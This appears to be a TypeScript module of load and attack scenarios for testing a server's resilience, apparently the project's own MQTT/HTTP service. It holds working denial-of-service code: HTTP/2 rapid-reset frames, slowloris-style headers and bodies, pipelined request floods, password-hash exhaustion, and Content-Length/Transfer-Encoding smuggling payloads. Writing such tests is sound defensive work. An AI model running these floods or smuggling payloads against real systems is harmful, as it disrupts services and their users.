import type { Socket } from 'node:net'
import {
  ask,
  authorization,
  either,
  httpPort,
  openHttp2,
  openTcp,
  openTls,
  repeat,
  requestText,
  send,
  sleep,
} from './attacker.js'
import type { AttackTarget, Scenario } from './scenario.js'

/** Point 2: 1500 pipelined GETs of a file on one connection, whose client leaves without reading. */
export const pipelinedFiles: Scenario = {
  name: 'pipelined-files',
  run: (target, signal) =>
    repeat(signal, 100, async () => {
      const socket = await openTcp(target, httpPort(target))
      socket.pause()
      await send(socket, requestText(target, 'GET', '/vendor/paho-mqtt.js').repeat(1500), signal)
      await sleep(150, signal)
      socket.destroy()
      return 1500
    }),
}

/** Neighbour of point 2: pipelined requests to the API. */
export const pipelinedPolls: Scenario = {
  name: 'pipelined-polls',
  run: (target, signal) =>
    repeat(signal, 100, async () => {
      const socket = await openTcp(target, httpPort(target))
      await send(socket, requestText(target, 'GET', '/v1/poll?topic=a&timeout=30').repeat(1000), signal)
      await sleep(200, signal)
      socket.destroy()
      return 1000
    }),
}

/** Point 10: 1000 streams of HTTP/2, each reset behind its HEADERS, in one write. */
export const rapidReset: Scenario = {
  name: 'rapid-reset',
  run: (target, signal) => {
    const streams = Array.from({ length: 1000 }, (_, index) => {
      const id = 2 * index + 1
      return [http2Frame(1, 5, id, requestHeaders(target, '/v1/events?topic=a')), http2Frame(3, 0, id, resetCode)]
    }).flat()
    const bytes = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), http2Frame(4, 0, 0), ...streams])
    return repeat(signal, 200, async () => {
      const socket = await openTls(target, signal)
      if (socket === undefined) return 0
      await send(socket.resume(), bytes, signal)
      await sleep(300, signal)
      socket.destroy()
      return 1000
    })
  },
}

/** CANCEL (RFC 9113 §7). */
const resetCode = Buffer.from([0, 0, 0, 8])

/** A frame of HTTP/2 (RFC 9113 §4.1). */
function http2Frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/** GET over https, in HPACK without the dynamic table (RFC 7541 §6.2.2). */
function requestHeaders(target: AttackTarget, path: string): Buffer {
  const literal = (start: readonly number[], text: string) => [...start, text.length, ...Buffer.from(text)]
  const named = Object.entries(authorization(target)).flatMap(([name, value]) => [
    ...literal([0], name.toLowerCase()),
    ...literal([], value),
  ])
  const { host } = new URL(target.https)
  return Buffer.from([0x82, 0x87, ...literal([4], path), ...literal([1], host), ...named])
}

/** Point 15: connections that send half of their headers, or none at all. */
export const slowHeaders: Scenario = {
  name: 'slow-headers',
  run: async (target, signal) => {
    const sockets: Socket[] = []
    const ports = [
      httpPort(target),
      ...(target.https === '' ? [] : [Number(new URL(target.https).port)]),
      target.mqttPort,
    ]
    const sent = await repeat(signal, 20, async () => {
      for (const port of ports) {
        const socket = await openTcp(target, port)
        socket.write(port === target.mqttPort ? Buffer.from([0x10]) : 'GET / HTTP/1.1\r\nHost: a\r\nX: ')
        sockets.push(socket)
      }
      while (sockets.length > 300) sockets.shift()?.destroy()
      return ports.length
    })
    for (const socket of sockets) socket.destroy()
    return sent
  },
}

/** Point 15: tickets, as many as there are to be had. */
export const manyTickets: Scenario = {
  name: 'many-tickets',
  run: (target, signal) =>
    repeat(signal, 20, async () => {
      const socket = await openTcp(target, httpPort(target))
      await send(socket, requestText(target, 'POST', '/v1/tickets', { 'Content-Length': '0' }).repeat(50), signal)
      await sleep(50, signal)
      socket.destroy()
      return 50
    }),
}

/** Point 4 over HTTP: bodies that do not come to their end. */
export const slowBodies: Scenario = {
  name: 'slow-bodies',
  run: async (target, signal) => {
    const sockets: Socket[] = []
    const head = requestText(target, 'POST', '/v1/publish?topic=slow', { 'Content-Length': String(2 ** 20) })
    const sent = await repeat(signal, 20, async () => {
      const socket = await openTcp(target, httpPort(target))
      await send(socket, head + 'x'.repeat(2 ** 20 - 1000), signal)
      sockets.push(socket)
      while (sockets.length > 120) sockets.shift()?.destroy()
      return 1
    })
    for (const socket of sockets) socket.destroy()
    return sent
  },
}

/** Neighbour: wrong passwords, each of which would cost a hash. */
export const wrongPasswords: Scenario = {
  name: 'wrong-passwords',
  run: (target, signal) => {
    let count = 0
    return repeat(signal, 10, async () => {
      await ask(
        { ...target, username: `nobody${count++}`, password: 'x'.repeat(72) },
        signal,
        'GET',
        '/v1/poll?topic=a&timeout=0',
      )
      return 1
    })
  },
}

/** Point 10, a neighbour: event streams by HTTP/2 that nobody reads. */
export const unreadStreams: Scenario = {
  name: 'unread-http2-streams',
  run: (target, signal) =>
    repeat(signal, 100, async () => {
      const session = await openHttp2(target, signal)
      if (session === undefined) return 0
      const streams = Array.from({ length: 90 }, (_, index) => {
        const stream = session.request({ ':path': `/v1/events?topic=unread/${index}` })
        return stream.on('error', () => {}).pause()
      })
      await sleep(500, signal)
      session.destroy()
      return streams.length
    }),
}

/** Point 15: requests that break the rules of HTTP/1.1 in ways that proxies read differently. */
export const brokenRequests: Scenario = {
  name: 'broken-requests',
  run: (target, signal) =>
    repeat(signal, 20, async () => {
      const texts = [
        'GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n',
        'POST /v1/publish?topic=a HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
        `GET /${'a'.repeat(60_000)} HTTP/1.1\r\nHost: a\r\n\r\n`,
        `GET / HTTP/1.1\r\nHost: a\r\n${'A: b\r\n'.repeat(5000)}\r\n`,
        'PROPFIND / HTTP/1.1\r\nHost: a\r\n\r\n',
      ]
      for (const text of texts) {
        const socket = await openTcp(target, httpPort(target))
        await send(socket, text, signal)
        await either(socket, ['data', 'close'], signal)
        socket.destroy()
      }
      return texts.length
    }),
}
